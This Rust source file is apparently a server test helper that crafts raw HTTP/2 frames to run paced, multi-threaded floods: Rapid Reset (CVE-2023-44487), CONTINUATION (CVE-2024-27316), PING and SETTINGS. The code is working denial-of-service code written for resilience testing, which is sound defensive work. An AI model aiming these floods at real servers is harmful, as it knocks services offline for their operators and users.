//! HTTP/2 floods for the throughput test: raw frames written by hand (no HTTP/2 library would
//! misbehave on purpose), from a few threads, each over a connection in clear text (h2c prior
//! knowledge), at a paced rate, reconnecting whenever the server sends it away. Cheap on the
//! client's side, so that on a small machine what a flood costs is the server's cost.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::{Duration, Instant};

/// A flood stops by itself after this long even if never told to.
const MAX_FLOOD_DURATION: Duration = Duration::from_secs(120);

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// How long a flooding thread waits before opening its next connection: each opens at most 50
/// a second.
const RECONNECT_PAUSE: Duration = Duration::from_millis(20);

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FloodKind {
    /// Streams opened and cancelled at once (CVE-2023-44487).
    RapidReset,
    /// A header block that never ends (CVE-2024-27316).
    Continuation,
    Ping,
    Settings,
}

/// What a flood managed: frames written, and connections it had to open again after the
/// server sent it away or closed on it.
#[derive(Debug, Default, Clone, Copy)]
pub struct FloodReport {
    pub frames: u64,
    pub reconnects: u64,
}

pub struct Flood {
    stop: Arc<AtomicBool>,
    frames: Arc<AtomicU64>,
    reconnects: Arc<AtomicU64>,
    threads: Vec<JoinHandle<()>>,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = (payload.len() as u32).to_be_bytes();
    let mut out = vec![len[1], len[2], len[3], kind, flags];
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// `GET /flood` to `t`, HPACK without the dynamic table: indexed :method GET, :scheme http,
/// then :path and :authority as literals without indexing.
fn request_block() -> Vec<u8> {
    let mut block = vec![0x82, 0x86, 0x04, 6];
    block.extend_from_slice(b"/flood");
    block.extend_from_slice(&[0x01, 1, b't']);
    block
}

impl Flood {
    /// `connections` threads, each writing about `per_second` frames a second.
    pub fn start(addr: SocketAddr, kind: FloodKind, connections: usize, per_second: u64) -> Flood {
        let stop = Arc::new(AtomicBool::new(false));
        let frames = Arc::new(AtomicU64::new(0));
        let reconnects = Arc::new(AtomicU64::new(0));
        let threads = (0..connections)
            .map(|_| {
                let (stop, frames, reconnects) = (stop.clone(), frames.clone(), reconnects.clone());
                std::thread::spawn(move || {
                    let started = Instant::now();
                    while !stop.load(Ordering::Relaxed) && started.elapsed() < MAX_FLOOD_DURATION {
                        flood_one(addr, kind, per_second, &stop, &frames);
                        reconnects.fetch_add(1, Ordering::Relaxed);
                        // Pacing between connections, not a wait for a condition: this is an
                        // HTTP/2 flood, not a connection flood (max_connections and the listen
                        // backlog bound those).
                        std::thread::sleep(RECONNECT_PAUSE);
                    }
                })
            })
            .collect();
        Flood {
            stop,
            frames,
            reconnects,
            threads,
        }
    }

    pub fn stop(self) -> FloodReport {
        self.stop.store(true, Ordering::Relaxed);
        for thread in self.threads {
            let _ = thread.join();
        }
        FloodReport {
            frames: self.frames.load(Ordering::Relaxed),
            reconnects: self.reconnects.load(Ordering::Relaxed),
        }
    }
}

/// One connection's flood, until the server ends it or the flood is stopped.
fn flood_one(
    addr: SocketAddr,
    kind: FloodKind,
    per_second: u64,
    stop: &AtomicBool,
    frames: &AtomicU64,
) {
    let Ok(mut sock) = TcpStream::connect_timeout(&addr, Duration::from_secs(5)) else {
        return;
    };
    let _ = sock.set_nodelay(true);
    let _ = sock.set_read_timeout(Some(Duration::from_millis(1)));
    let _ = sock.set_write_timeout(Some(Duration::from_secs(2)));
    let mut hello = PREFACE.to_vec();
    hello.extend(frame(0x4, 0, 0, &[]));
    if sock.write_all(&hello).is_err() {
        return;
    }
    let block = request_block();
    // Literal fields that decode to about 1 KiB a frame, for the CONTINUATION flood.
    let junk: Vec<u8> = (0..64)
        .flat_map(|_| {
            [0x00, 3, b'x', b'-', b'j', 10]
                .into_iter()
                .chain([b'v'; 10])
        })
        .collect();
    let batch_every = Duration::from_millis(10);
    let per_batch = (per_second / 100).max(1);
    let mut stream = 1u32;
    let mut sink = [0u8; 16 * 1024];
    let mut next = Instant::now();
    let mut open_block = false;
    while !stop.load(Ordering::Relaxed) {
        let mut batch = Vec::new();
        for i in 0..per_batch {
            match kind {
                FloodKind::RapidReset => {
                    batch.extend(frame(0x1, 0x5, stream, &block));
                    batch.extend(frame(0x3, 0, stream, &8u32.to_be_bytes()));
                    stream += 2;
                }
                FloodKind::Continuation if !open_block => {
                    batch.extend(frame(0x1, 0x1, stream, &block));
                    open_block = true;
                }
                FloodKind::Continuation => batch.extend(frame(0x9, 0, stream, &junk)),
                FloodKind::Ping => batch.extend(frame(0x6, 0, 0, &i.to_be_bytes())),
                FloodKind::Settings => batch.extend(frame(0x4, 0, 0, &[0, 3, 0, 0, 0, 100])),
            }
        }
        if sock.write_all(&batch).is_err() {
            return;
        }
        frames.fetch_add(per_batch, Ordering::Relaxed);
        // Read (and drop) what the server sends, so its answers never back up; a close or a
        // GOAWAY ends this connection.
        loop {
            match sock.read(&mut sink) {
                Ok(0) => return,
                Ok(n) if goaway(&sink[..n]) => return,
                Ok(_) => continue,
                Err(err)
                    if matches!(
                        err.kind(),
                        std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                    ) =>
                {
                    break
                }
                Err(_) => return,
            }
        }
        next += batch_every;
        if let Some(wait) = next.checked_duration_since(Instant::now()) {
            std::thread::sleep(wait);
        }
    }
}

/// Whether `bytes` (from the start of a read) hold a GOAWAY frame header; reads may split frames,
/// so this is a hint, not a parser: a missed one still ends in the server's close.
fn goaway(bytes: &[u8]) -> bool {
    let mut at = 0;
    while at + 9 <= bytes.len() {
        let len = u32::from_be_bytes([0, bytes[at], bytes[at + 1], bytes[at + 2]]) as usize;
        if bytes[at + 3] == 0x7 {
            return true;
        }
        at += 9 + len;
    }
    false
}
